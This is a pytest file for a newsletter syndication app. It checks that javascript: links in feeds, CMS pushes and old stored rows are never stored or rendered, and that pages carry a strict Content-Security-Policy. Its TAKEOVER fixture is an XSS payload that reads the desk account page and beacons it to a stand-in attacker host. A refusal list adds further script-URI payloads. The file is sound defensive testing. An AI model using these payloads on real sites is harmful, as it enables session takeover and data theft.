"""A feed is written by a stranger: a `javascript:` link in an item became a script on the public web view and,
with the desk signed in, a desk takeover. Now a story's link is stored only as an absolute http(s) URI, every
`href` made from outside data is checked again where it is rendered, and every page is served under a strict
Content-Security-Policy (the edition's web view in a sandbox). Each attack goes through the real entry point:
a feed served over local HTTP, the running app over HTTP, the CMS push."""

from __future__ import annotations

import re

import pytest
from sqlalchemy import select
from starlette.testclient import TestClient

from desk_client import add_editor, api_headers, desk_client, signed_in
from syndicate import links
from syndicate.db import transaction
from syndicate.delivery import sending
from syndicate.errors import InvalidInput
from syndicate.http import api_tokens
from syndicate.ingest import feeds
from syndicate.models import Article, Feed, utcnow
from syndicate.newsletters import editions, lists
from syndicate.subscribers import consent
from syndicate.web import metrics
from syndicate.web.app import create_app

TAKEOVER = "javascript:fetch('/desk/account').then(r=>r.text()).then(t=>navigator.sendBeacon('//evil.example',t))"
IRI = "https://hub.example/2026/05/東京-猛暑対策/?q=北京"
IRI_AS_URI = ("https://hub.example/2026/05/%E6%9D%B1%E4%BA%AC-%E7%8C%9B%E6%9A%91%E5%AF%BE%E7%AD%96/"
              "?q=%E5%8C%97%E4%BA%AC")


def item(title: str, link: str, guid: str, hour: int) -> str:
    return (f"<item><title>{title}</title><link>{link}</link><guid>{guid}</guid>"
            f"<pubDate>Sun, 06 Dec 2026 0{hour}:00:00 GMT</pubDate>"
            f"<description>{title}. More later.</description></item>")


HOSTILE_FEED = (
    '<?xml version="1.0" encoding="UTF-8"?><rss version="2.0"><channel><title>Hub</title>'
    "<link>https://hub.example/</link><description>d</description>"
    + item("Vote tonight", TAKEOVER.replace("&", "&amp;").replace(">", "&gt;"), "https://hub.example/2026/vote", 9)
    + item("Polls close", "javascript:alert(1)", "polls-close", 8)
    + item("Heat plan for Tokyo", IRI, "tokyo-heat", 7)
    + "</channel></rss>"
).encode()


@pytest.fixture
def polled(svc, feed_server):
    """The hostile feed, polled over HTTP; a newsletter and a reader, and the edition cut from it."""
    with transaction(svc.Session) as session:
        feed = feeds.add_feed(session, feed_server.serve("/feed", HOSTILE_FEED))
        result = feeds.poll(session, feed, svc.settings)
        assert result.status == "ok", result.error
        newsletter = lists.add_newsletter(session, slug="daily", name="Daily", from_address="news@example.com",
                                          first_fill="last:10")
        consent.subscribe(session, "reader@example.org", [newsletter.id], confirmed=True)
        sending.cut(session, newsletter, svc.settings)
        return feed.id


def stored_links(svc) -> dict[str, str]:
    with transaction(svc.Session) as session:
        return dict(session.execute(select(Article.title, Article.url)).all())


def test_a_feed_items_javascript_link_is_never_stored_and_the_feed_says_why(svc, polled, feed_server):
    assert stored_links(svc) == {
        "Vote tonight": "https://hub.example/2026/vote",  # its guid is a permalink: the story keeps its address
        "Polls close": "",  # nothing else: no address of its own (never the feed's), and no teaser
        "Heat plan for Tokyo": IRI_AS_URI,  # an IRI, kept as the URI every client links whole
    }
    with transaction(svc.Session) as session:
        feed = session.get(Feed, polled)
        health = feeds.health(feed, utcnow())
    assert health["status"] == "ok"  # the feed was read: the other stories went on
    assert "2 item(s) had no web address of their own as a link" in feed.last_error
    assert "'Polls close'" in feed.last_error and "no teaser is posted for it" in feed.last_error
    with transaction(svc.Session) as session:
        assert "\nsyndicate_feeds_failing 0.0\n" in metrics.render(session, svc.settings)  # a note, not a failure


def test_the_public_web_view_atom_feed_and_mail_carry_no_script_link_and_run_no_script(svc, polled):
    with TestClient(create_app()) as client:
        view = client.get("/n/daily/1")
        atom = client.get("/n/daily/feed.atom")
    with transaction(svc.Session) as session:
        edition = editions.get_edition(session, "daily", 1)
        mail_html, mail_text = edition.html, edition.text

    for body in (view.text, atom.text, mail_html, mail_text):
        assert "javascript:" not in body.lower()
    assert f'href="{IRI_AS_URI}"' in view.text
    policy = view.headers["content-security-policy"]
    assert "sandbox" in policy and "allow-scripts" not in policy and "allow-same-origin" not in policy
    assert "frame-ancestors 'none'" in policy and "default-src 'none'" in policy


def test_a_script_link_stored_before_links_were_checked_is_never_rendered_as_a_link(svc):
    """Rows from before: every href made from outside data is checked where it is made, too."""
    add_editor(svc)
    with transaction(svc.Session) as session:
        newsletter = lists.add_newsletter(session, slug="daily", name="Daily", from_address="news@example.com",
                                          cron=None)
        article = Article(identity="old", url=TAKEOVER, title="Old story", lead="From before.",
                          image_url="javascript:alert(2)", content_hash="0" * 64, categories=[],
                          published_at=utcnow(), first_seen_at=utcnow())
        session.add(article)
        session.flush()
        edition = editions.create_edition(session, newsletter, svc.settings, status="draft", articles=[article])
        edition_id, article_id = edition.id, article.id
        html, text = edition.html, edition.text

    assert "javascript:" not in html and "javascript:" not in text
    assert "Old story" in html and "Read the story" not in html
    with desk_client() as client:
        signed_in(client)
        for page in (f"/desk/editions/{edition_id}", f"/desk/articles/{article_id}"):
            body = client.get(page).text
            assert "Old story" in body
            assert not re.search(r"(href|src)=\"\s*javascript:", body, re.I), page


def test_a_pushed_story_link_is_kept_as_a_uri_and_a_script_link_is_refused(svc):
    add_editor(svc)
    with transaction(svc.Session) as session:
        _, token = api_tokens.create_token(session, "cms", scopes=["articles:push"])
    push = {"Authorization": f"Bearer {token}"}
    with TestClient(create_app()) as client:
        spaced = client.post("/api/articles", headers=push,
                             json={"url": "https://news.example/2026/a story", "title": "A story"})
        script = client.post("/api/articles", headers=push, json={"url": TAKEOVER, "title": "Another"})

    assert spaced.status_code == 201, spaced.text
    assert stored_links(svc)["A story"] == "https://news.example/2026/a%20story"
    assert script.status_code == 422 and "not a web address" in script.json()["error"]


# ── the headers every page is served with ────────────────────────────────────


def test_every_page_is_served_under_a_strict_policy_and_only_our_own_scripts_carry_its_nonce(svc, polled):
    add_editor(svc)
    with desk_client() as client:
        public = [client.get(path) for path in ("/", "/n/daily", "/desk/login")]
        signed_in(client)
        desk = [client.get(path) for path in ("/desk", "/desk/editions/1", "/desk/feeds")]
        api = client.get("/api/v1/newsletters", headers=api_headers(svc))

    nonces = set()
    for response in public + desk:
        assert response.status_code == 200, response.url
        policy = response.headers["content-security-policy"]
        assert "frame-ancestors 'none'" in policy and "object-src 'none'" in policy and "base-uri 'none'" in policy
        assert "'unsafe-inline'" not in policy.split("script-src", 1)[1].split(";")[0]
        assert response.headers["x-content-type-options"] == "nosniff"
        assert response.headers["referrer-policy"] == "same-origin"
        nonce = re.search(r"script-src 'nonce-([^']+)'", policy).group(1)
        nonces.add(nonce)
        for tag in re.findall(r"<script\b[^>]*>", response.text):
            assert f'nonce="{nonce}"' in tag, (response.url, tag)
    assert len(nonces) == len(public + desk)  # a fresh one for every answer
    assert any("<script" in response.text for response in desk)  # the desk's own scripts are there, and allowed
    assert api.headers["x-content-type-options"] == "nosniff"


@pytest.mark.parametrize("value, uri", [
    ("HTTPS://Hub.Example:8443/a b?q=x y#top", "https://hub.example:8443/a%20b?q=x%20y#top"),
    ("https://bücher.example/ü", "https://xn--bcher-kva.example/%C3%BC"),
    ("https://hub.example/100%/done%2F", "https://hub.example/100%25/done%2F"),
    ("  https://hub.example\t ", "https://hub.example/"),
])
def test_a_link_is_kept_as_the_uri_it_names(value, uri):
    assert links.web_link(value) == uri


@pytest.mark.parametrize("value", [
    "javascript:alert(1)", " JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "data:text/html,<script>", "vbscript:x",
    "//hub.example/a", "/2026/relative", "https://user:pw@hub.example/", "https://hub.example:99999/",
    "https:///no-host", "https://hub..example/", "ftp://hub.example/file", "https://a<b>.example/",
    "https://hub.example/" + "a" * 2100,
])
def test_anything_but_an_absolute_web_address_is_refused_with_why(value):
    with pytest.raises(InvalidInput, match="web address|host name|user name|longer than"):
        links.web_link(value)
    assert links.href(value) == ""
